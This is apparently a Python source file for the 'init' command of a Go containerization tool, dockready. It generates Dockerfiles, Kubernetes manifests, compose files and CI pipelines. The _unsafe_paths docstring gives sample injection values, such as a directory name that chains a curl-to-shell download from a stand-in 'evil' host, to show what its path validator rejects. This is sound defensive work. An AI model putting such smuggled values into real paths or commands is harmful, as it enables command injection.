"""``dockready init``: write the Dockerfile, .dockerignore, Kubernetes manifests,
compose file or CI pipeline a Go service needs, from the facts ``check`` reads."""

from __future__ import annotations

import posixpath
import re
import sys
from dataclasses import dataclass, replace
from pathlib import Path
from typing import NoReturn

import click

from dockready.commands.options import REPORT_BUG, config_options
from dockready.config import Config, ConfigError, resolve_config
from dockready.engine import UsageError
from dockready.facts.index import ProjectIndex
from dockready.generate.model import InitFacts
from dockready.model import Notice


def _fail(message: str, code: int = 2) -> NoReturn:
    click.echo(f"dockready: error: {message}", err=True)
    sys.exit(code)


def _note(message: str) -> None:
    click.echo(f"dockready: {message}", err=True)


def load_project(
    path: str, config: Config | None = None
) -> tuple[Path, ProjectIndex, list[Notice]]:
    """The project index of the tree at ``path``, read as ``check`` reads it (the same
    loader, the configuration's ``[services.<name>]`` joins included; no rule runs),
    its root on disk, and what reading it noticed (files skipped, Go it could not
    parse, an invalid go.mod): detection is incomplete there, so ``init`` says so."""
    from dockready.engine import load_project as load

    project = load([path], config, jobs=1, require_files=False)
    notices = list(project.notices)
    for p in project.parsed:
        if p.error is not None and p.error.kind == "go.mod":
            notices.append(Notice(p.error.message, p.error.span))
    return project.root, project.index, notices


def load_index(path: str, config: Config | None = None) -> tuple[Path, ProjectIndex]:
    """The project index of the tree at ``path`` (no rules run), and its root on disk."""
    root, ix, _ = load_project(path, config)
    return root, ix


@click.command("init")
@click.argument("path", required=False, default=".", type=click.Path())
@click.option(
    "--service",
    "service",
    metavar="NAME",
    help="The service to generate for: its name, module directory or main package directory.",
)
@click.option("--dockerfile", "want_docker", is_flag=True, help="Dockerfile and .dockerignore.")
@click.option("--k8s", "want_k8s", is_flag=True, help="Kubernetes manifests.")
@click.option(
    "--hpa",
    is_flag=True,
    help="With the manifests, a HorizontalPodAutoscaler (autoscaling/v2) that owns the replica count.",
)
@click.option("--compose", "want_compose", is_flag=True, help="A compose file.")
@click.option("--ci", type=click.Choice(["github", "gitlab"]), default=None, help="A CI pipeline.")
@click.option("--dry-run", is_flag=True, help="Print the files instead of writing them.")
@click.option("--diff", "show_diff", is_flag=True, help="Print a diff against the files there.")
@click.option("--force", is_flag=True, help="Overwrite files that differ.")
@click.option(
    "--port",
    type=click.IntRange(1, 65535),
    default=None,
    help="The port the service listens on, when init cannot read it from the code or its config.",
)
@click.option(
    "--all",
    "all_services",
    is_flag=True,
    help="Generate for every service under PATH (a monorepo), each in its own module root.",
)
@click.option(
    "--output-dir",
    type=click.Path(file_okay=False),
    default=None,
    help="Write here instead of the service's module root.",
)
@config_options
def init_cmd(
    path: str,
    service: str | None,
    want_docker: bool,
    want_k8s: bool,
    hpa: bool,
    want_compose: bool,
    ci: str | None,
    dry_run: bool,
    show_diff: bool,
    force: bool,
    port: int | None,
    all_services: bool,
    output_dir: str | None,
    config_file: str | None,
    no_config: bool,
) -> None:
    """Generate the container files of the Go service under PATH (default: .).

    With none of --dockerfile, --k8s, --compose and --ci: the Dockerfile, its
    .dockerignore and Kubernetes manifests. Existing files are never overwritten
    unless they are identical or --force is given; --diff and --dry-run write nothing.
    Reads .dockready.toml as check does (its [services.<name>] joins). A service
    that already has a Dockerfile, manifests or a compose file under other names
    gets none written beside them (--force writes them anyway). Where the port
    would be a guess, init stops and asks for --port. Exit codes: 0 done, 2 usage
    or configuration error (no service, an unknown or missing --service, a port to
    give, files that would be overwritten), 3 internal error.
    """
    if dry_run and show_diff:
        _fail("--dry-run and --diff are exclusive")
    if all_services and service is not None:
        _fail("--all and --service are exclusive")
    if all_services and port is not None:
        _fail("--port applies to one service: use it with --service, not --all")
    if all_services and output_dir is not None:
        _fail("--output-dir applies to one service: each service's files go to its module root")
    if not any((want_docker, want_k8s, want_compose, ci)):
        want_docker = want_k8s = True
    asked = _Asked(
        docker=want_docker,
        k8s=want_k8s or hpa,  # the autoscaler goes with the manifests
        hpa=hpa,
        compose=want_compose,
        ci=ci,
        dry_run=dry_run,
        diff=show_diff,
        force=force,
        output_dir=output_dir,
        port=port,
        all=all_services,
    )
    try:
        config = resolve_config([path], config_file=config_file, no_config=no_config)
    except ConfigError as e:
        _fail(str(e))
    try:
        _run(path, service, asked, config)
    except SystemExit:
        raise
    except Exception as e:  # pragma: no cover - last resort
        _fail(f"internal error: {type(e).__name__}: {e}; {REPORT_BUG}", 3)


@dataclass(frozen=True, slots=True)
class _Asked:
    """What the command line asks ``init`` for."""

    docker: bool
    k8s: bool
    hpa: bool
    compose: bool
    ci: str | None
    dry_run: bool
    diff: bool
    force: bool
    output_dir: str | None
    port: int | None = None
    all: bool = False


def _run(path: str, service: str | None, asked: _Asked, config: Config) -> None:
    """Generate (or show) the files of the chosen services, with their notes."""
    from dockready.generate.detect import detect, service_name

    if Path(path).exists() and not Path(path).is_dir():
        _fail(f"{path}: not a directory (give the directory of the Go module)")
    try:
        root, ix, notices = load_project(path, config)
    except UsageError as e:
        _fail(str(e))
    for n in sorted(notices, key=lambda n: (n.span.path, n.span.line) if n.span else ("", 0)):
        where = f"{n.span.path}:{n.span.line}: " if n.span is not None else ""
        _note(f"notice: {where}{n.message}")
    found = detect(ix, root)
    if not found:
        without_mod = [s.name for s in ix.services if s.module is None]
        bad_mods = [e.span.path for e in ix.parse_errors if e.kind == "go.mod"]
        if bad_mods:
            hint = f" ({', '.join(bad_mods)}: not a valid go.mod)"
        elif without_mod:
            hint = f" ({', '.join(without_mod)} has no go.mod: run go mod init)"
        else:
            hint = " (a package main with func main, in a module with a go.mod)"
        _fail(f"no Go service found under {path}{hint}")
    listing = ", ".join(f"{f.name} ({f.main_pkg} in {f.root})" for f in found)
    if asked.all:
        guessed = [f for f in found if f.listens and f.port_guess]
        for f in found:
            if f in guessed:
                continue
            if len(found) > 1:
                click.echo(f"== {f.name} ({f.root})")
            _generate(root, ix, f, asked)
        if guessed:
            names = "; ".join(f"{f.name}: {f.port_guess}" for f in guessed)
            _fail(
                f"not generated for {len(guessed)} service(s) whose port cannot be read "
                f"({names}): run init --service NAME --port N for each"
            )
        return
    if service is not None:
        wanted = posixpath.normpath(service.strip("/"))
        chosen = [
            f
            for f in found
            if f.name in (service, service_name(service))
            or wanted in (f.root, posixpath.normpath(posixpath.join(f.root, f.main_pkg)))
        ]
        if not chosen:
            _fail(f"no service {service!r} under {path}; services: {listing}")
        facts = chosen[0]
    elif len(found) > 1:
        _fail(f"{len(found)} services under {path}: {listing}; choose one with --service NAME")
    else:
        facts = found[0]
    if asked.port is not None:
        facts = with_port(facts, asked.port)
    elif facts.listens and facts.port_guess:
        _fail(
            f"cannot tell which port {facts.name} listens on: the address is "
            f"{facts.port_guess}, which neither the code nor a configuration file it reads "
            "gives; run again with --port N (the port it listens on in the container)"
        )
    _generate(root, ix, facts, asked)


def with_port(f: InitFacts, port: int) -> InitFacts:
    """``f`` listening on ``port`` (given with ``--port``): the variables the image
    sets follow it."""
    env = tuple(
        (k, str(port) if k == f.port_env else f":{port}" if k == f.addr_env else v)
        for k, v in f.listen_env
    )
    ports = tuple(p for p in f.ports if p.port != port)
    warnings = tuple(w for w in f.warnings if "cannot be read from the code" not in w)
    return replace(f, port=port, port_guess=None, listen_env=env, ports=ports, warnings=warnings)


def _existing(root: Path, ix: ProjectIndex, f: InitFacts) -> dict[str, list[str]]:
    """What the service already has, by kind (``docker``, ``k8s``, ``compose``):
    paths relative to the checked directory."""
    from dockready.generate.detect import service_name

    svc = next(
        (s for s in ix.services if s.root == f.root and service_name(s.name) == f.name), None
    )
    out: dict[str, list[str]] = {"docker": [], "k8s": [], "compose": []}
    if svc is not None:
        out["docker"] = sorted({b.dockerfile.path for b in svc.builds})
        out["k8s"] = sorted({d.workload.path for d in svc.deployments})
        out["compose"] = sorted({c.path for c in svc.compose})
    if not out["compose"]:
        here = root / f.root if f.root != "." else root
        out["compose"] = [
            posixpath.normpath(posixpath.join(f.root, n))
            for n in COMPOSE_NAMES
            if (here / n).is_file()
        ]
    return out


#: The names Docker Compose looks for, in its order.
COMPOSE_NAMES = ("compose.yaml", "compose.yml", "docker-compose.yaml", "docker-compose.yml")


#: What a directory name may hold to be written into a Dockerfile (a shell-form RUN
#: included): what Go accepts in an import path element, and nothing a shell reads.
_SAFE_PATH = re.compile(r"[A-Za-z0-9._~/+-]+")


def _unsafe_paths(facts: InitFacts) -> list[str]:
    """Directory names init would have to write into the Dockerfile that are not safe
    there (``cmd/x;curl evil|sh``, ``cmd/$(id)``, ``cmd/my app``): Go refuses them as
    package paths anyway."""
    paths = [facts.main_pkg, facts.root, facts.context, *facts.local_modules]
    return [p for p in paths if not _SAFE_PATH.fullmatch(p)]


def _generate(root: Path, ix: ProjectIndex, facts: InitFacts, asked: _Asked) -> None:
    """Write (or show) one service's files, then its notes."""
    # Files relative to the service's module root, and (CI) to the checked directory:
    # GitHub and GitLab read their pipelines only at the top of the repository.
    from dockready.generate import render_k8s, writer

    unsafe = _unsafe_paths(facts)
    if unsafe:
        _fail(
            f"{facts.name}: the directory name {unsafe[0]!r} cannot be written into a "
            "Dockerfile safely, and go build rejects it as a package path; rename it "
            "(letters, digits, '.', '_', '-', '~', '+')"
        )
    from dockready.generate.render_docker import render_docker

    service_files: dict[str, str] = {}
    top_files: dict[str, str] = {}
    have = _existing(root, ix, facts) if asked.output_dir is None and not asked.force else {}

    def beside(kind: str, files: dict[str, str], what: str) -> bool:
        """Does the service have ``what`` under other names? Then say so and skip."""
        mine = {posixpath.normpath(posixpath.join(facts.root, p)) for p in files}
        other = [p for p in have.get(kind, []) if p not in mine]
        if not other:
            return False
        _note(
            f"note: {facts.name} already has {what} ({', '.join(other)}): nothing written "
            f"beside it ({', '.join(sorted(files))}); --dry-run shows what init would "
            "generate, --force writes it anyway"
        )
        return True

    if asked.docker:
        docker = render_docker(facts)
        if not beside("docker", {facts.dockerfile: ""}, "a Dockerfile"):
            service_files.update(docker)
    if asked.k8s:
        k8s = render_k8s.render_k8s(facts, hpa=asked.hpa)
        if not beside("k8s", k8s, "Kubernetes manifests"):
            service_files.update(k8s)
    if asked.compose:
        compose = render_k8s.render_compose(facts)
        if not beside("compose", compose, "a compose file"):
            service_files.update(compose)
    if asked.ci is not None:
        top_files.update(render_k8s.render_ci(facts, asked.ci))

    out = Path(asked.output_dir) if asked.output_dir is not None else None
    if (asked.compose or asked.ci is not None) and not asked.docker:
        dockerfile = (out or root / facts.root) / facts.dockerfile
        if not dockerfile.exists():
            what = " and ".join(
                w for w, on in (("compose file", asked.compose), ("CI pipeline", asked.ci)) if on
            )
            _note(
                f"note: the {what} build {facts.dockerfile}, which is not there: generate it "
                "with --dockerfile"
            )
    try:
        planned = writer.plan(service_files, out or root / facts.root)
        planned += writer.plan(top_files, out or root)
    except writer.WriteError as e:
        _fail(str(e))
    if asked.dry_run:
        sys.stdout.write(writer.dry_run(planned))
        _notes(facts, asked.k8s)
        return
    if asked.diff:
        text = writer.diff(planned)
        if text:
            sys.stdout.write(text)
        else:
            _note("no changes: every file is up to date")
        _notes(facts, asked.k8s)
        return
    clashing = writer.conflicts(planned)
    if clashing and not asked.force:
        names = "\n".join(f"  {writer.display(p.path)}" for p in clashing)
        _fail(
            f"these files exist and differ from what init generates:\n{names}\n"
            "nothing was written; see the changes with --diff, overwrite with --force"
        )
    try:
        written = writer.write(planned, force=asked.force)
    except writer.WriteError as e:
        _fail(str(e))
    done = {id(p) for p in written}
    for p in planned:
        if id(p) in done:
            verb = "wrote    " if p.existing is None else "replaced "
        else:
            verb = "unchanged"
        click.echo(f"{verb} {writer.display(p.path)}")
    _notes(facts, asked.k8s)


def _notes(facts: InitFacts, k8s: bool) -> None:
    """What the generated files cannot fix, and what the manifests had to assume:
    the user's next steps (on stderr)."""
    from dockready.generate.render_k8s import notes

    for w in facts.warnings:
        _note(f"warning: {w}")
    if k8s:
        for n in notes(facts):
            _note(f"note: {n}")
    if facts.private_modules and not facts.vendor:
        _note(
            "note: private modules: build with --secret id=netrc,src=$HOME/.netrc "
            f"(GOPRIVATE={','.join(facts.private_modules)})"
        )
